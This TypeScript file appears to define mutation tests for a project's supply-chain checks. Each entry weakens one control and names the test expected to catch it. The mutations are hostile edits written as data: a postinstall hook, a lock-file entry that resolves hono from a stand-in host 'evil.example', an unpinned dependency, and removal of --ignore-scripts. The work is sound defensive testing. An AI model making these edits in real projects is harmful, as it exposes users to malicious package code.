import type { Mutation } from './mutation.ts';

export const supplyChain: readonly Mutation[] = [
  {
    control: 'the package has no install script',
    file: 'package.json',
    find: '"setup": "node scripts/setup.mjs",',
    replace: '"setup": "node scripts/setup.mjs", "postinstall": "node scripts/setup.mjs",',
    tests: ['test/supply-chain.test.ts'],
  },
  {
    control: 'the lock file uses one registry',
    file: 'package-lock.json',
    find: '"node_modules/hono": {',
    replace: `"node_modules/hono": {
      "resolved": "https://evil.example/hono.tgz",`,
    tests: ['test/supply-chain.test.ts'],
  },
  {
    control: 'a tarball has only built files',
    file: 'package.json',
    find: `"dist",
`,
    replace: `"dist",
    "test",
`,
    tests: ['test/supply-chain.test.ts'],
  },
  {
    control: 'only styles have side effects',
    file: 'package.json',
    find: '"**/*.css"',
    replace: '"**/*"',
    tests: ['test/supply-chain.test.ts'],
  },
  {
    control: 'dependencies are pinned',
    file: 'package.json',
    find: '"hono": "4.13.19"',
    replace: '"hono": "^4.13.19"',
    tests: ['test/supply-chain.test.ts'],
  },
  {
    control: 'setup runs no package scripts',
    file: 'scripts/setup.mjs',
    find: "'ci', '--ignore-scripts',",
    replace: "'ci',",
    tests: ['test/supply-chain.test.ts'],
  },
];
